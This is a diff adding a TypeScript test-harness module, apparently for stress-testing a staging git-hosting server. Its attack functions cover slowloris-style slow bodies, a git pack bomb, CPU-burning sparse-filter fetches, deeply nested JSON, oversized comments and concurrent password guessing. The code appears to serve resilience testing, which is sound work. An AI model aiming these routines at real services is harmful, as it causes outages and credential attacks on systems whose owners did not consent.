@@ -1,0 +1,191 @@
+/** Attacks that were tried on a running server, each as one function that goes on until it is told to end. */
+import { randomBytes } from 'node:crypto'
+import { connect, type Socket } from 'node:net'
+import { setTimeout as delay } from 'node:timers/promises'
+import { packBomb } from './pack-bomb.ts'
+import { authorization, MALLORY, type Stage } from './stage.ts'
+
+export type Attack = (stage: Stage, signal: AbortSignal) => Promise<void>
+
+const EVIL = '/mallory/evil'
+const API = `/api/v1/repos${EVIL}`
+const DOUBLINGS = 11
+const LONG_TEXT = 60 * 1024
+
+/** Many at once, each again and again. What fails is tried again: an attacker has nothing to lose. */
+async function crowd(
+  size: number,
+  signal: AbortSignal,
+  attempt: (n: number) => Promise<unknown>,
+): Promise<void> {
+  async function one(n: number): Promise<void> {
+    while (!signal.aborted) {
+      const failed = await attempt(n).then(
+        () => false,
+        () => true,
+      )
+      // A server that refuses connections gets a moment, so that the attacker's own process does not spin.
+      if (failed) await delay(20, undefined, { signal }).catch(() => {})
+    }
+  }
+  await Promise.all(Array.from({ length: size }, (_, n) => one(n)))
+}
+
+/** Opens a socket, lets `talk` write, and resolves when the socket has closed, at the latest at the signal. */
+function onSocket(
+  { url }: Stage,
+  signal: AbortSignal,
+  talk: (socket: Socket, ended: Promise<void>) => void,
+): Promise<void> {
+  return new Promise((resolve) => {
+    const { hostname, port } = new URL(url)
+    const socket = connect(Number(port), hostname)
+    const ended = new Promise<void>((end) => socket.once('close', () => end()))
+    const stop = () => socket.destroy()
+    signal.addEventListener('abort', stop, { once: true })
+    socket.on('error', () => {})
+    socket.once('close', () => {
+      signal.removeEventListener('abort', stop)
+      resolve()
+    })
+    socket.once('connect', () => talk(socket, ended))
+  })
+}
+
+/** The lines of a request's head. */
+const head = (method: string, path: string, headers: Record<string, string | number> = {}) =>
+  `${method} ${path} HTTP/1.1\r\nHost: stage\r\n${Object.entries(headers)
+    .map(([name, value]) => `${name}: ${value}\r\n`)
+    .join('')}\r\n`
+
+const asMallory = { Authorization: authorization(MALLORY) }
+
+/** A request whose answer is thrown away; aborted after `patienceMs`. */
+async function request(
+  { url }: Stage,
+  signal: AbortSignal,
+  path: string,
+  options: RequestInit = {},
+  patienceMs = 60_000,
+): Promise<void> {
+  const answer = await fetch(`${url}${path}`, {
+    ...options,
+    headers: { authorization: authorization(MALLORY), ...options.headers },
+    signal: AbortSignal.any([signal, AbortSignal.timeout(patienceMs)]),
+  })
+  await answer.arrayBuffer()
+}
+
+const pktLine = (text: string | Buffer) => {
+  const payload = Buffer.from(text)
+  return Buffer.concat([Buffer.from((payload.length + 4).toString(16).padStart(4, '0')), payload])
+}
+const FLUSH = Buffer.from('0000')
+const DELIMITER = Buffer.from('0001')
+const ZERO = '0'.repeat(40)
+
+/** A push of a pack that unfolds to gigabytes. */
+function pushBomb(stage: Stage, signal: AbortSignal): Promise<void> {
+  const { pack, firstId } = packBomb(DOUBLINGS)
+  const name = `refs/heads/bomb-${randomBytes(4).toString('hex')}`
+  const command = pktLine(`${ZERO} ${firstId} ${name}\0 report-status\n`)
+  return request(stage, signal, `${EVIL}.git/git-receive-pack`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/x-git-receive-pack-request' },
+    body: Buffer.concat([command, FLUSH, pack]),
+  })
+}
+
+/** A fetch with a filter that compares each path of each commit with patterns. */
+async function fetchBySparseFilter(stage: Stage, signal: AbortSignal): Promise<void> {
+  const refs = await fetch(`${stage.url}/api/v1/repos${EVIL}/branches/main`, { signal })
+  const { commit }: { commit: { id: string } } = JSON.parse(await refs.text())
+  const body = Buffer.concat([
+    pktLine('command=fetch\n'),
+    DELIMITER,
+    pktLine('no-progress\n'),
+    pktLine(`filter sparse:oid=${commit.id}:a.txt\n`),
+    pktLine(`want ${commit.id}\n`),
+    pktLine('done\n'),
+    FLUSH,
+  ])
+  await request(stage, signal, `${EVIL}.git/git-upload-pack`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/x-git-upload-pack-request', 'git-protocol': 'version=2' },
+    body,
+  })
+}
+
+const longText = () =>
+  Array.from({ length: LONG_TEXT / 8 }, () => randomBytes(4).toString('hex').slice(1)).join(' ')
+
+export const ATTACKS: Readonly<Record<string, Attack>> = {
+  'bodies that never come': (stage, signal) =>
+    crowd(64, signal, () =>
+      onSocket(stage, signal, (socket) => {
+        const headers = { 'Content-Type': 'application/x-git-upload-pack-request', 'Content-Length': 5000 }
+        socket.write(`${head('POST', `${EVIL}.git/git-upload-pack`, headers)}00000`)
+      }),
+    ),
+  'diffs that nobody waits for': (stage, signal) =>
+    crowd(8, signal, (n) =>
+      request(
+        stage,
+        signal,
+        `${API}/pulls/1/files?whitespace=${n % 2 ? 'ignore-all' : 'ignore-change'}`,
+        {},
+        300,
+      ),
+    ),
+  'answers that nobody reads': async (stage, signal) => {
+    await Promise.all(
+      Array.from({ length: 50 }, (_, n) =>
+        request(stage, signal, `${API}/issues`, {
+          method: 'POST',
+          headers: { 'content-type': 'application/json' },
+          body: JSON.stringify({ title: `Long ${n}`, body: '\u20ac'.repeat(65_000) }),
+        }).catch(() => {}),
+      ),
+    )
+    const path = `${API}/issues?type=issues&limit=50`
+    await crowd(32, signal, () =>
+      onSocket(stage, signal, (socket) => {
+        socket.write(head('GET', path).repeat(20))
+        socket.pause()
+      }),
+    )
+  },
+  'comments of long texts': (stage, signal) =>
+    crowd(4, signal, () =>
+      request(stage, signal, `${API}/issues/1/comments`, {
+        method: 'POST',
+        headers: { 'content-type': 'application/json' },
+        body: JSON.stringify({ body: longText() }),
+      }),
+    ),
+  'packs that unfold to gigabytes': (stage, signal) => crowd(4, signal, () => pushBomb(stage, signal)),
+  'filters that burn a core': (stage, signal) => crowd(8, signal, () => fetchBySparseFilter(stage, signal)),
+  'bodies a byte at a time': (stage, signal) =>
+    crowd(64, signal, () =>
+      onSocket(stage, signal, (socket, ended) => {
+        const headers = { ...asMallory, 'Content-Type': 'application/json', 'Content-Length': 60_000 }
+        socket.write(head('POST', `${API}/issues`, headers))
+        const drip = setInterval(() => socket.write(' '), 1000)
+        ended.then(() => clearInterval(drip))
+      }),
+    ),
+  'deeply nested JSON': (stage, signal) =>
+    crowd(4, signal, (n) =>
+      request(stage, signal, `${API}/issues`, {
+        method: 'POST',
+        headers: { 'content-type': 'application/json', 'idempotency-key': `nested-${n}` },
+        body: `{"title":${'['.repeat(100_000)}${']'.repeat(100_000)}}`,
+      }),
+    ),
+  'passwords that are guessed': (stage, signal) =>
+    crowd(32, signal, (n) =>
+      request(stage, signal, '/api/v1/user', {
+        headers: { authorization: authorization(`honest-${n % 4}`, 'no') },
+      }),
+    ),
+}
